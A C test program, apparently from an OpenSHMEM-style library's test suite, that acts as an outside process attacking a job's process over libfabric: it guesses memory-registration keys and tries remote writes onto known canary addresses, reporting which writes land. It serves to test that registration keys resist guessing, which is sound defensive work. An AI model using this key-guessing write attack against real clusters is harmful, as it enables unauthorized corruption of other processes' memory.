/*
 * A process outside the job that tries to write into a PE's memory
 * through libfabric, for tests/init/mr_attack.sh: it opens the provider
 * the job uses (tcp;ofi_rxm), puts the PE's listening address into its
 * address vector and writes 8 bytes of 0xa5 at every place a canary of
 * the PE may be, under every memory-registration key it would guess (the
 * small numbers that fabshmem used to request, a few more, 0 and all ones),
 * as an offset into the registration (what tcp uses) and as a virtual
 * address.  It knows the layout as well as can be (mr_victim tells it
 * where its canaries are and which bases a registration would start
 * from); only the keys are secret.
 *
 *   mr_attack IP PORT TARGET...     TARGET is ADDR or ADDR@BASE (hex): a
 *                                   canary's virtual address, and a
 *                                   registration's start it is an offset
 *                                   from
 *
 * Prints one line per write that the target accepted ("mr_attack: landed:
 * key K at X") and a summary "mr_attack: W writes, A accepted, R refused,
 * T timed out"; exit status 0, 77 when the provider cannot be opened, 1 on
 * a local failure.  Whether anything changed is for the PE to check.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <time.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

#define MAX_TARGETS 16
/* Seconds a write may take before it counts as timed out. */
#define WRITE_TIMEOUT 2

static struct fid_fabric *fabric;
static struct fid_domain *domain;
static struct fid_av *av;
static struct fid_cq *cq;
static struct fid_ep *ep;

static int fail(const char *what, int ret)
{
    fprintf(stderr, "mr_attack: %s: %s\n", what, fi_strerror(ret < 0 ? -ret : ret));
    return 1;
}

static struct fi_info *info;

/* Opens tcp;ofi_rxm's fabric and domain: 0, 77 when the provider is not
 * there, 1 on failure. */
static int open_provider(void)
{
    struct fi_info *hints = fi_allocinfo();
    int ret;

    if (!hints)
        return 1;
    /* The job's rxm settings (providers/ofi/ofi_quirks.c): rxm refuses a
     * connection from a peer whose buffer size differs. */
    setenv("FI_OFI_RXM_BUFFER_SIZE", "4096", 1);
    setenv("FI_OFI_RXM_MSG_RX_SIZE", "32", 1);
    hints->caps = FI_RMA | FI_MSG;
    hints->ep_attr->type = FI_EP_RDM;
    hints->domain_attr->mr_mode = 0;
    hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
    ret = fi_getinfo(FI_VERSION(FI_MAJOR_VERSION, FI_MINOR_VERSION), NULL, NULL, 0, hints, &info);
    fi_freeinfo(hints);
    if (ret) {
        fprintf(stderr, "mr_attack: fi_getinfo (tcp;ofi_rxm): %s\n", fi_strerror(-ret));
        return 77;
    }
    if ((ret = fi_fabric(info->fabric_attr, &fabric, NULL)))
        return fail("fi_fabric", ret);
    if ((ret = fi_domain(fabric, info, &domain, NULL)))
        return fail("fi_domain", ret);
    return 0;
}

/* A fresh endpoint, with its own connection to the target at sin: a
 * target that refuses a write closes the connection it came on.  0 or 1. */
static int open_ep(const struct sockaddr_in *sin, fi_addr_t *peer_p)
{
    struct fi_cq_attr cq_attr;
    struct fi_av_attr av_attr;
    int ret;

    memset(&av_attr, 0, sizeof(av_attr));
    av_attr.type = FI_AV_TABLE;
    if ((ret = fi_av_open(domain, &av_attr, &av, NULL)))
        return fail("fi_av_open", ret);
    memset(&cq_attr, 0, sizeof(cq_attr));
    cq_attr.format = FI_CQ_FORMAT_CONTEXT;
    if ((ret = fi_cq_open(domain, &cq_attr, &cq, NULL)))
        return fail("fi_cq_open", ret);
    if ((ret = fi_endpoint(domain, info, &ep, NULL)))
        return fail("fi_endpoint", ret);
    if ((ret = fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV)) ||
        (ret = fi_ep_bind(ep, &av->fid, 0)) || (ret = fi_enable(ep)))
        return fail("binding the endpoint", ret);
    if (fi_av_insert(av, sin, 1, peer_p, 0, NULL) != 1)
        return fail("fi_av_insert", FI_EINVAL);
    return 0;
}

static void close_ep(void)
{
    fi_close(&ep->fid);
    fi_close(&cq->fid);
    fi_close(&av->fid);
}

/* What became of each write: 0 no answer yet, 1 accepted, -1 refused. */
#define MAX_WRITES 1024
static int result[MAX_WRITES];

/* Drives the provider once and records the completions that came. */
static void poll_cq(void)
{
    struct fi_cq_entry e[16];
    struct fi_cq_err_entry err;
    ssize_t n, i;

    n = fi_cq_read(cq, e, 16);
    for (i = 0; i < n; i++)
        *(int *)e[i].op_context = 1;
    if (n == -FI_EAVAIL) {
        memset(&err, 0, sizeof(err));
        if (fi_cq_readerr(cq, &err, 0) == 1 && err.op_context)
            *(int *)err.op_context = -1;
    }
}

/* Waits up to WRITE_TIMEOUT seconds for write w's completion: 1 accepted,
 * -1 refused, 0 no answer. */
static int wait_write(int w)
{
    time_t end = time(NULL) + WRITE_TIMEOUT;

    while (!result[w] && time(NULL) <= end)
        poll_cq();
    return result[w];
}

/* The message of one 8-byte write of payload to (peer, raddr, key). */
static uint64_t payload = 0xa5a5a5a5a5a5a5a5ull;

static const struct fi_msg_rma *msg_of(struct fi_rma_iov *rma, struct iovec *iov, fi_addr_t peer,
                                       uint64_t raddr, uint64_t key, void *ctx)
{
    static struct fi_msg_rma msg;

    iov->iov_base = &payload;
    iov->iov_len = sizeof(payload);
    rma->addr = raddr;
    rma->len = sizeof(payload);
    rma->key = key;
    memset(&msg, 0, sizeof(msg));
    msg.msg_iov = iov;
    msg.iov_count = 1;
    msg.addr = peer;
    msg.rma_iov = rma;
    msg.rma_iov_count = 1;
    msg.context = ctx;
    return &msg;
}

int main(int argc, char **argv)
{
    static const uint64_t keys[] = { 0, 1, 2, 3, 4, 5, 6, 7, 8, 20, 21, 22, 23, 24, 0xffffffffull,
                                     ~0ull };
    struct sockaddr_in sin;
    fi_addr_t peer;
    uint64_t addr[MAX_TARGETS], base[MAX_TARGETS];
    struct fi_rma_iov rma;
    struct iovec iov;
    int ntargets = 0, i, k, v, ret, writes = 0, accepted = 0, refused = 0, timeouts = 0;

    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 4) {
        fprintf(stderr, "usage: mr_attack IP PORT ADDR[@BASE]...\n");
        return 1;
    }
    memset(&sin, 0, sizeof(sin));
    sin.sin_family = AF_INET;
    sin.sin_port = htons((uint16_t)atoi(argv[2]));
    if (inet_pton(AF_INET, argv[1], &sin.sin_addr) != 1) {
        fprintf(stderr, "mr_attack: bad IPv4 address %s\n", argv[1]);
        return 1;
    }
    for (i = 3; i < argc && ntargets < MAX_TARGETS; i++, ntargets++) {
        char *at = strchr(argv[i], '@');
        addr[ntargets] = strtoull(argv[i], NULL, 16);
        base[ntargets] = at ? strtoull(at + 1, NULL, 16) : 0;
    }
    if ((ret = open_provider()))
        return ret;
    for (i = 0; i < ntargets; i++) {
        for (k = 0; k < (int)(sizeof(keys) / sizeof(keys[0])); k++) {
            /* As an offset into the registration, then as a virtual address. */
            for (v = 0; v < 2; v++) {
                uint64_t raddr = v ? addr[i] : addr[i] - base[i];
                int w = writes;
                if ((!v && !base[i]) || w >= MAX_WRITES)
                    continue;
                writes++;
                if (open_ep(&sin, &peer))
                    return 1;
                do {
                    ret = (int)fi_writemsg(ep, msg_of(&rma, &iov, peer, raddr, keys[k],
                                                      &result[w]), FI_DELIVERY_COMPLETE);
                    if (ret == -FI_EAGAIN)
                        poll_cq();
                } while (ret == -FI_EAGAIN);
                ret = ret ? -1 : wait_write(w);
                close_ep();
                switch (ret) {
                case 1:
                    accepted++;
                    printf("mr_attack: landed: key %#llx at %#llx\n",
                           (unsigned long long)keys[k], (unsigned long long)raddr);
                    break;
                case -1:
                    refused++;
                    break;
                default:
                    timeouts++;
                }
            }
        }
    }
    printf("mr_attack: %d writes, %d accepted, %d refused, %d timed out\n", writes, accepted,
           refused, timeouts);
    fi_close(&domain->fid);
    fi_close(&fabric->fid);
    return 0;
}
